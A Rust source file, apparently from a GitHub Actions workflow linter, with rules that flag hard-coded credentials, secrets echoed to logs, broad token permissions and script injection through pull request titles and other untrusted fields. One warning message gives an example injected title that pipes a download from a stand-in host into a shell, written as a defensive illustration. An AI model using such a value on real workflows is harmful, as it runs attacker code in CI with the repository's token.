//! Rules about what a workflow exposes: credentials written into `env:`, `with:` or
//! registry logins, secrets echoed to the log, pull request text spliced into scripts
//! (script injection), and the job token's `permissions:`.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;

use super::workflow::Job;
use super::{Cx, Requirements};
use crate::check::yaml::{Node, could_be_credential, looks_secret};

static EXPRESSION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?s)\$\{\{(.*?)\}\}").expect("a constant, valid regex"));

static SECRETS_EXPRESSION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$\{\{[^}]*\bsecrets\b").expect("a constant, valid regex"));

static PRINTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[\s;&|(])(?:echo|printf)\b").expect("a constant, valid regex")
});

/// Contexts anyone who opens a pull request, issue or comment can write.
static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"github\.head_ref",
        r"|github\.event\.(?:pull_request|issue|discussion)\.(?:title|body)",
        r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)",
        r"|github\.event\.(?:comment|review|review_comment)\.body",
        r"|github\.event\.head_commit\.(?:message|author\.(?:email|name))",
        r"|github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))",
        r"|github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name",
        r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))",
    ))
    .expect("a constant, valid regex")
});

/// Checks an `env:` mapping (workflow, job or step) for hard-coded credentials.
pub(super) fn check_env(
    cx: &mut Cx<'_>,
    env: &Node,
    service_values: &BTreeSet<String>,
    req: &Requirements,
) {
    check_secret_entries(cx, env, "env", service_values, req);
}

/// Hard-coded credentials in `env:` or `with:` entries, and (with the requirement)
/// credentials not taken from the `secrets` context.
pub(super) fn check_secret_entries(
    cx: &mut Cx<'_>,
    map: &Node,
    section: &str,
    service_values: &BTreeSet<String>,
    req: &Requirements,
) {
    let Some(entries) = map.map() else { return };
    for (k, v) in entries {
        let Some(name) = k.text(cx.text) else {
            continue;
        };
        if !looks_secret(&name) {
            continue;
        }
        let Some(value) = v.text(cx.text) else {
            continue;
        };
        if !could_be_credential(&value) {
            continue;
        }
        if !value.contains("${{") {
            if service_values.contains(&value) {
                continue;
            }
            let how = format!(
                "`{name}: ${{{{ secrets.{} }}}}`",
                name.to_ascii_uppercase().replace('-', "_")
            );
            cx.error(
                "hardcoded-secret",
                v.at(),
                format!(
                    "`{name}` is set to a literal value in `{section}:`, so the credential is in your repository for anyone who can read it (and in its history forever): store it as a repository secret (Settings → Secrets and variables → Actions) and write {how}"
                ),
            );
        } else if req.secrets_only_via_context && !from_secrets(&value) {
            cx.error(
                "require-secrets-via-context",
                v.at(),
                format!(
                    "`{name}` looks like a credential but does not come from the `secrets` context: store it as a repository secret and write `${{{{ secrets.NAME }}}}` (`vars` are not encrypted or masked in logs)"
                ),
            );
        }
    }
}

/// Whether an expression value comes from the `secrets` context or the job's token.
fn from_secrets(value: &str) -> bool {
    EXPRESSION.captures_iter(value).all(|c| {
        let inner = c.get(1).map_or("", |m| m.as_str()).trim();
        inner.starts_with("secrets.") || inner.starts_with("secrets[") || inner == "github.token"
    }) && EXPRESSION.is_match(value)
}

pub(super) fn check_permissions(
    cx: &mut Cx<'_>,
    root: &Node,
    jobs: &[Job<'_>],
    req: &Requirements,
) {
    let top = root.get("permissions");
    for p in top
        .into_iter()
        .chain(jobs.iter().filter_map(|j| j.body.get("permissions")))
    {
        if p.str() == Some("write-all") {
            cx.warning(
                "broad-permissions",
                p.at(),
                "`permissions: write-all` lets every step push code, create releases and change settings with the job's token: grant only what the job needs, e.g. `contents: read`",
            );
        }
    }
    if top.is_some() || req.permissions {
        return;
    }
    let missing: Vec<&str> = jobs
        .iter()
        .filter(|j| j.body.get("permissions").is_none())
        .map(|j| j.id.as_str())
        .collect();
    if missing.is_empty() {
        return;
    }
    let at = root.entry("jobs").map_or((0, 0), |(k, _)| k.at());
    cx.warning(
        "no-permissions",
        at,
        format!(
            "no `permissions:` is set for {}, so the job token gets the repository's default, which may allow writing: add `permissions:` with `contents: read` at the top of the workflow and grant more only to jobs that need it",
            list_names(&missing, "job")
        ),
    );
}

/// Secrets printed to the log and untrusted text spliced into the script.
pub(super) fn check_run(cx: &mut Cx<'_>, run: &Node) {
    let (src, base) = run.scalar_source(cx.text);
    let mut line_start = 0;
    for line in src.split_inclusive('\n') {
        for print in PRINTS.find_iter(line) {
            // What this echo prints: up to the next command on the line.
            let after = &line[print.end()..];
            let end = [";", "&&", "||"]
                .iter()
                .filter_map(|sep| after.find(sep))
                .min()
                .unwrap_or(after.len());
            let printed = &after[..end];
            if printed.contains('|') || printed.contains('>') || printed.contains("::add-mask::") {
                continue; // piped or redirected: not written to the log
            }
            if let Some(secret) = SECRETS_EXPRESSION.find(printed) {
                cx.error(
                    "secret-echo",
                    run.pos_at(cx.text, base, line_start + print.end() + secret.start()),
                    "this step prints a secret with `echo`/`printf`; GitHub's log masking only catches exact matches, so encoded or partial copies leak into logs anyone with read access can see: do not print secrets; pass them to the command that needs them through `env:`",
                );
            }
        }
        line_start += line.len();
    }
    check_injection(cx, run);
}

/// Untrusted text spliced into a script by `${{ }}` (a `run:` or github-script's `script:`).
pub(super) fn check_injection(cx: &mut Cx<'_>, script: &Node) {
    let (src, base) = script.scalar_source(cx.text);
    for m in EXPRESSION.captures_iter(src) {
        let (Some(whole), Some(inner)) = (m.get(0), m.get(1)) else {
            continue;
        };
        if let Some(u) = UNTRUSTED.find(inner.as_str()) {
            cx.warning(
                "script-injection",
                script.pos_at(cx.text, base, whole.start()),
                format!(
                    "`{}` is text anyone opening a pull request or issue controls, and `${{{{ }}}}` pastes it into the script before the shell runs, so a title like `\"; curl evil.sh | sh; \"` runs as code: pass it through `env:` (e.g. `TITLE: ${{{{ {} }}}}`) and use `\"$TITLE\"` in the script",
                    u.as_str(),
                    u.as_str()
                ),
            );
        }
    }
}

/// `job `a``, `jobs `a` and `b``.
fn list_names(names: &[&str], noun: &str) -> String {
    let quoted: Vec<String> = names.iter().map(|n| format!("`{n}`")).collect();
    match quoted.as_slice() {
        [one] => format!("the {noun} {one}"),
        [init @ .., last] => format!("the {noun}s {} and {last}", init.join(", ")),
        [] => format!("any {noun}"),
    }
}
